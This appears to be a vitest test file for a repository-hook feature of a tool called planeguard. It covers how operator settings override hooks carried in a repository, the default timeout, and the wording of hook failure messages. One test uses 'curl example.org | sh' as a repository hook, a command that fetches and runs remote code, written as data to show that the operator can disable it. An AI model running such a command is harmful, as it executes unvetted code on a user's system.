import { describe, expect, it } from 'vitest';
import { chooseHooks, type EndedHook, type HookOutcome, hookProblem } from '../../src/core/hook.ts';

const silent = { afterCreate: null, beforeRun: null, afterRun: null, beforeRemove: null, timeoutMs: null };

describe('the hooks of a repository', () => {
  it('are those that it carries, where the operator says nothing', () => {
    const carried = { ...silent, beforeRun: 'make', timeoutMs: 1_000 };
    expect(chooseHooks(silent, carried)).toEqual({
      timeoutMs: 1_000,
      hooks: { beforeRun: { text: 'make', from: 'repository' } },
    });
  });

  it("are the operator's, hook by hook, where they say something", () => {
    const carried = { ...silent, beforeRun: 'make', afterRun: 'make clean', timeoutMs: 1_000 };
    expect(chooseHooks({ ...silent, beforeRun: 'npm ci', timeoutMs: 2_000 }, carried)).toEqual({
      timeoutMs: 2_000,
      hooks: {
        beforeRun: { text: 'npm ci', from: 'operator' },
        afterRun: { text: 'make clean', from: 'repository' },
      },
    });
  });

  it('are switched off by an empty text of the operator', () => {
    const carried = { ...silent, beforeRun: 'curl example.org | sh' };
    expect(chooseHooks({ ...silent, beforeRun: '' }, carried).hooks).toEqual({});
  });

  it('are none without any configuration, and have five minutes', () => {
    expect(chooseHooks(null, null)).toEqual({ timeoutMs: 300_000, hooks: {} });
  });
});

const hook: EndedHook = {
  name: 'beforeRun',
  from: 'operator',
  timeoutMs: 5_000,
  lastWords: 'no such file',
};

describe('a hook that is over', () => {
  it('is no problem when it exits with 0', () => {
    expect(hookProblem(hook, { kind: 'exited', status: 0 })).toBeNull();
  });

  it.each<[HookOutcome, string]>([
    [{ kind: 'exited', status: 3 }, 'exited with status 3'],
    [{ kind: 'exited', status: 137 }, 'was ended by signal 9'],
    [{ kind: 'timed_out' }, 'was still running after 5 s (hooks.timeout) and was stopped'],
    [{ kind: 'vanished' }, 'was killed before it had ended'],
    [{ kind: 'not_started' }, 'could not be started'],
    [{ kind: 'interrupted' }, 'was stopped because its session was ended'],
  ])('says which it was, what happened and its last words: %o', (outcome, what) => {
    expect(hookProblem(hook, outcome)).toBe(
      `The hook beforeRun of planeguard.yaml ${what}. Its last words: no such file`,
    );
  });

  it('says where it came from, and that it said nothing', () => {
    const carried: EndedHook = { ...hook, from: 'repository', lastWords: '' };
    expect(hookProblem(carried, { kind: 'exited', status: 1 })).toBe(
      "The hook beforeRun of the repository's .planeguard/config.yaml exited with status 1. It said nothing.",
    );
  });
});
